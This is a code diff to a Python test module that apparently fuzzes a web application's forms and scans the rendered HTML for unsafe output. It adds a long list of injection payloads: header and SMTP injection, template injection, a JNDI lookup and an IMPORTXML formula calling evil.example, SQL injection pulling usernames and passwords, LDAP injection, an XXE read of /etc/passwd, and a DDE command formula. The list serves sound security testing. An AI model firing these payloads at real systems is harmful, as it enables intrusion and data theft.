@@ -98,10 +98,21 @@ _OTHERS = [
     "2026-02-30", "31/02/2026", "0000-00-00", "9999-12-31", "10000-01-01", "12:61", "0", "00000000-0000-0000-0000-000000000000",
 ]  # fmt: skip
 
+_MORE = [
+    "👨🏿‍🦽‍➡️ 🧑🏻‍🤝‍🧑🏾 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️\u200d🔥" * 40, "#️⃣ *️⃣ 0️⃣", "\U0001f1eb", "\u20e3", "🏻", "\ufe0f" * 30, "\u036f" * 200,
+    "Donaudampfschifffahrtsgesellschaftskapitän" * 30, "anticonstitutionnellement" * 80, "\u00a0" * 300, "\u202f:\u00a0!", "l’été – « où » …",
+    "X-Injecte: oui\r\nSet-Cookie: a=b\r\n\r\n<html>", "%0d%0aSet-Cookie:%20a=b", "Bcc: a@evil.example\nSujet: b", "a\r\n.\r\nMAIL FROM:<b>",
+    "{% load static %}{% csrf_token %}", "{{ request.user.password }}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://evil.example/a}", "[[${7*7}]]",
+    "1; SELECT pg_sleep(5)", "' UNION SELECT username, password FROM directory_user --", "1' AND 1=CAST((SELECT version()) AS int)--", "\\x27", "\\u0000",
+    "__proto__", "constructor[prototype]", "__class__", "a[b][c]", "a.b.c", "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
+    "data:text/html;base64,PHNjcmlwdD4=", "\u2028alert(1)\u2029", "\ufeff=1+1", "\u061c\u200f=1+1", "=IMPORTXML(\"//evil.example\",\"//a\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12 34 56 78", "-", "=", "1\u00a0234,50\u00a0€", "١٢٣", "Ⅻ", "1e5", "0b1", "٠", "\u0660\u0661/\u0660\u0661/\u0662",
+]  # fmt: skip
+
 XSS = [vector.format(m=MARK) for vector in _XSS]
 LINKS = [vector.format(m=MARK) for vector in _LINKS]
 FORMULAS = _FORMULAS
-STRINGS = [*XSS, *LINKS, *FORMULAS, *_UNICODE, *_CONTROLS, *_OTHERS]
+STRINGS = [*XSS, *LINKS, *FORMULAS, *_UNICODE, *_CONTROLS, *_OTHERS, *_MORE]
 # The few that break most: posted in every field of every form.
 WORST = [
     "\x00nul\x00",
@@ -127,7 +138,7 @@ def faults(html: bytes) -> list[str]:
         names = {str(name).lower(): value for name, value in element.attrib.items()}
         if MARK in tag or any(MARK in name for name in names):
             found.append(f"<{tag} {sorted(names)}>")
-        if bad := [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "formaction")]:
+        if bad := [name for name in names if name.startswith("on") or name in ("style", "srcdoc")]:
             found.append(f"<{tag}> {bad}")
         if tag in ("iframe", "object", "embed", "base", "math", "audio", "video", "applet"):
             found.append(f"<{tag}>")
@@ -139,7 +150,7 @@ def faults(html: bytes) -> list[str]:
             found.append(f"<script> {(element.text or '')[:60]}")
         if tag in ("style", "template") or (tag == "meta" and "http-equiv" in names):
             found.append(f"<{tag}>")
-        for name in ("href", "src", "action", "srcset"):
+        for name in ("href", "src", "action", "formaction", "srcset"):
             value = names.get(name, "")
             if value and not _own_or_plain(tag, name, value, names):
                 found.append(f"<{tag} {name}={value[:80]!r}>")
@@ -150,6 +161,8 @@ def _own_or_plain(tag: str, name: str, value: str, attributes: dict) -> bool:
     """A path of ours, or an outbound link as the cleaner makes them."""
     if re.match(r"^(/(?![/\\])|[?#])", value) or value == "":
         return True
+    if tag == "a" and re.fullmatch(r"tel:\+?[0-9]+|mailto:[\w.+-]+@[\w.-]+", value):
+        return True  # who can help; what a text brings there has more in it
     if tag == "a" and name == "href":
         outbound = attributes.get("rel") == "nofollow noopener noreferrer ugc"
         return (value.startswith(("https://", "mailto:")) and outbound) or bool(
